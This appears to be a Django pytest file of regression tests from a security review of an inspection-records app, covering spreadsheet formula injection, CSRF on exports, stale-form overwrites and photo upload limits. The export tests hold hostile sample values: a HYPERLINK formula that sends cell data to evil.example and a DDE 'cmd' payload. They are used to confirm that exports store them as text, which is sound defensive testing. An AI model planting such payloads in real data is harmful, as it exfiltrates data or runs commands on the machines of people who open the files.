"""Defects found in the second security review, each pinned by the test that showed it."""

import datetime
import io

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from inspections import bulletins
from inspections.models import Bulletin, ExportJob, Hazard, HazardEvent, Inspection
from inspections.stats import Scope
from tests import factories

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _workbook(data: bytes):
    # Not read-only: only a full load reports each cell's data_type ("f" for a formula).
    return load_workbook(io.BytesIO(data))


def _formula_like_cells(workbook) -> list:
    return [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith("=")
    ]


def _download(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content)


# --- formula injection: user text in exported workbooks stays text -----------------------


@pytest.mark.django_db
def test_ledger_export_writes_formula_like_text_as_text(login, office, inspector_a, unit_of_a):
    unit_of_a.name = FORMULA_NAME
    unit_of_a.save()
    factories.hazard(unit_of_a, inspector_a, description="=1+1", location="=cmd|' /C calc'!A0")

    workbook = _workbook(_download(login(office).get(reverse("hazard_export"))))

    cells = _formula_like_cells(workbook)
    assert {c.value for c in cells} == {FORMULA_NAME, "=1+1", "=cmd|' /C calc'!A0"}
    assert [c.data_type for c in cells] == ["s"] * len(cells)


@pytest.mark.django_db
def test_unit_export_writes_formula_like_text_as_text(login, office, unit_of_a):
    unit_of_a.name = FORMULA_NAME
    unit_of_a.address = "=1+1"
    unit_of_a.save()

    workbook = _workbook(_download(login(office).get(reverse("units:export"))))

    cells = _formula_like_cells(workbook)
    assert {c.value for c in cells} == {FORMULA_NAME, "=1+1"}
    assert [c.data_type for c in cells] == ["s"] * len(cells)


@pytest.mark.django_db
def test_bulletin_attachment_writes_formula_like_text_as_text(inspector_a, unit_of_a):
    today = timezone.localdate()
    unit_of_a.name = FORMULA_NAME
    unit_of_a.save()
    factories.hazard(
        unit_of_a,
        inspector_a,
        description="=1+1",
        deadline=today - datetime.timedelta(days=2),
    )
    scope = Scope(start=today - datetime.timedelta(days=30), end=today, today=today)

    content = bulletins.attachment_xlsx(Bulletin(title="测试通报"), scope)

    cells = _formula_like_cells(_workbook(content))
    assert {c.value for c in cells} == {FORMULA_NAME, "=1+1"}
    assert [c.data_type for c in cells] == ["s"] * len(cells)


# --- a GET never starts background work ----------------------------------------------------


@pytest.mark.django_db
def test_large_ledger_export_is_not_started_by_a_get(
    login, office, inspector_a, unit_of_a, settings, django_capture_on_commit_callbacks
):
    settings.EXPORT_INLINE_MAX_ROWS = 1
    factories.hazard(unit_of_a, inspector_a)
    factories.hazard(unit_of_a, inspector_a)
    client = login(office)

    # A link (or an <img> on another site) only shows what would be exported.
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        page = client.get(reverse("hazard_export"), {"sort": "deadline", "level": "general"})
    assert page.status_code == 200
    assert not ExportJob.objects.exists() and not callbacks
    html = page.content.decode()
    assert 'method="post"' in html and "csrfmiddlewaretoken" in html
    assert 'name="sort" value="deadline"' in html and 'name="level" value="general"' in html

    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        response = client.post(reverse("hazard_export"), {"sort": "deadline", "level": "general"})
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == reverse("hazard_export_job", args=[job.pk])
    assert job.params == {"sort": ["deadline"], "level": ["general"]}
    assert (job.user, job.total, len(callbacks)) == (office, 2, 1)


@pytest.mark.django_db
def test_ledger_export_post_without_csrf_token_is_refused(office, inspector_a, unit_of_a, settings):
    settings.EXPORT_INLINE_MAX_ROWS = 0
    factories.hazard(unit_of_a, inspector_a)
    client = Client(enforce_csrf_checks=True)
    client.force_login(office)
    assert client.post(reverse("hazard_export")).status_code == 403
    assert not ExportJob.objects.exists()


# --- a stale draft form cannot undo a submission -------------------------------------------


@pytest.mark.django_db
def test_stale_draft_post_after_submission_changes_nothing(
    login, inspector_a, unit_of_a, monkeypatch
):
    """Two tabs (or a double tap on 提交): the second POST was read while the record was a
    draft and must not write the draft back over the submitted inspection and hazards."""
    from inspections import workflow
    from inspections.views import inspections as views

    client = login(inspector_a)
    today = timezone.localdate()
    deadline = (today + datetime.timedelta(days=7)).isoformat()
    hazard_fields = {
        "description": "配电箱无防护",
        "hazard_type": "electrical",
        "level": "general",
        "location": "一楼",
        "legal_basis": "",
        "deadline": deadline,
        "deadline_working_days": "",
        "lead_department": "",
        "disposal": "",
    }
    data = {
        "unit": unit_of_a.pk,
        "date": today.isoformat(),
        "kind": "routine",
        "campaign": "",
        "checked_items": "用电线路",
        "summary": "现场检查",
        "hazards-TOTAL_FORMS": "1",
        "hazards-INITIAL_FORMS": "0",
        "hazards-MIN_NUM_FORMS": "0",
        "hazards-MAX_NUM_FORMS": "1000",
        "save_draft": "1",
        **{f"hazards-0-{k}": v for k, v in hazard_fields.items()},
    }
    client.post(reverse("inspection_create"), data)
    inspection = Inspection.objects.get()
    hazard = Hazard.objects.get()

    # The second request read the record while it was still a draft …
    stale = views.get_inspection_for_user(type("R", (), {"user": inspector_a})(), inspection.pk)
    # … then the first request submitted it.
    workflow.submit_inspection(inspection_id=inspection.pk, actor=inspector_a)
    hazard.refresh_from_db()
    number = hazard.number
    monkeypatch.setattr(views, "get_inspection_for_user", lambda request, pk: stale)

    data.update(
        {
            "hazards-INITIAL_FORMS": "1",
            "hazards-0-id": hazard.pk,
            "hazards-0-description": "被改写的描述",
        }
    )
    data.pop("save_draft")
    data["submit"] = "1"
    response = client.post(reverse("inspection_edit", args=[inspection.pk]), data)

    assert response.status_code == 302
    assert response["Location"] == reverse("inspection_detail", args=[inspection.pk])
    inspection.refresh_from_db()
    hazard.refresh_from_db()
    assert inspection.status == Inspection.Status.SUBMITTED
    assert (hazard.status, hazard.number, hazard.description) == (
        Hazard.Status.REGISTERED,
        number,
        "配电箱无防护",
    )
    assert HazardEvent.objects.filter(hazard=hazard).count() == 1


# --- after-photos are capped like the inspection form's before-photos ----------------------


@pytest.mark.django_db
def test_report_done_refuses_more_photos_than_the_inspection_form_allows(
    login, inspector_a, office, unit_of_a, fire_dept, settings, tmp_path
):
    """Each photo is fully decoded and re-encoded: an unbounded count is a cheap way to tie
    up a worker; the inspection form already stops at MAX_PHOTOS_PER_HAZARD."""
    from django.core.files.uploadedfile import SimpleUploadedFile
    from PIL import Image

    from inspections import workflow
    from inspections.forms_inspections import MAX_PHOTOS_PER_HAZARD

    settings.MEDIA_ROOT = tmp_path / "media"
    hazard = factories.registered_hazard(unit_of_a, inspector_a)
    hazard = workflow.assign(
        hazard_id=hazard.pk,
        actor=office,
        version=hazard.version,
        lead_department=fire_dept,
        responsible_person="李四",
        deadline=timezone.localdate() + datetime.timedelta(days=10),
    )

    def jpeg(n: int) -> SimpleUploadedFile:
        buffer = io.BytesIO()
        Image.new("RGB", (32, 24), (n, 30, 30)).save(buffer, "JPEG")
        return SimpleUploadedFile(f"{n}.jpg", buffer.getvalue(), content_type="image/jpeg")

    url = reverse("hazard_act", kwargs={"pk": hazard.pk, "action": "report_done"})
    response = login(inspector_a).post(
        url,
        {
            "version": hazard.version,
            "note": "已整改",
            "photos": [jpeg(n) for n in range(MAX_PHOTOS_PER_HAZARD + 1)],
        },
    )

    assert response.status_code == 400
    form = next(f["form"] for f in response.context["action_forms"] if f["action"] == "report_done")
    assert f"最多上传{MAX_PHOTOS_PER_HAZARD}张" in form.errors["photos"][0]
    hazard.refresh_from_db()
    assert hazard.status == Hazard.Status.ASSIGNED and not hazard.photos.exists()
